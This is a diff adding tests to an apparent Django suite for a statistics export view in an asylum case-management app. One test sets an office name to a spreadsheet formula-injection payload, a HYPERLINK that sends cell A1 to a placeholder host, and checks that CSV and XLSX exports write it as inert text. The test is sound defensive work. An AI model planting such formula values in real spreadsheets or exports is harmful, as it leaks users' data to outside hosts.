@@ -198,13 +198,21 @@ def test_the_country_filter(client, regional, settings, gt_office, office):
     assert "The office chosen is not in this country." in response.content.decode()
 
 
+def test_without_a_choice_the_first_count_by_office(client, supervisor):
+    client.force_login(supervisor)
+    response = client.get(reverse("stats:breakdown"))
+    assert response.status_code == 200
+    assert response.context["table"].indicator == breakdown.breakable()[0]
+    assert response.context["table"].by == "office"
+
+
 def test_bad_choices_are_refused(client, supervisor):
     client.force_login(supervisor)
     url = reverse("stats:breakdown")
     for bad in ({"indicator": "recognition_rates", "by": "office"},  # a rate
                 {"indicator": "nope", "by": "office"},
                 {"indicator": "backlog", "by": "surname"},
-                {"indicator": "backlog"},
+                {"indicator": "", "by": "office"},
                 {"indicator": "backlog", "by": "office", "format": "pdf"}):
         assert client.get(url, {"year": 2026, **bad}).status_code == 400, bad
     assert not AuditEvent.objects.filter(action="stats.export").exists()
@@ -254,3 +262,22 @@ def test_the_downloads_are_protected_and_recorded(client, regional, settings):
     assert ("Asylum applications received, by processing modality", "Oficina de Tapachula",
             "Regular", 9, None) in values
     assert AuditEvent.objects.filter(action="stats.export").count() == 2
+
+
+def test_an_office_named_like_a_formula_is_written_as_text(client, supervisor, office, caseworker,
+                                                           settings):
+    settings.AMPARO_STATS_THRESHOLD = 0
+    office.name = '=HYPERLINK("http://example.invalid/?"&A1,"Abrir")'
+    office.save()
+    asylum(caseworker, office, nationality="HN", applied=D(2026, 2, 1))
+    client.force_login(supervisor)
+    params = {"year": 2026, "indicator": "applications_by_modality", "by": "office"}
+
+    text = client.get(reverse("stats:breakdown"), {**params, "format": "csv"}).content.decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert {r[1] for r in rows[1:] if r[1]} == {"'" + office.name}
+
+    xlsx = client.get(reverse("stats:breakdown"), {**params, "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert cells and all(c.data_type == "s" and c.value == "'" + office.name for c in cells)
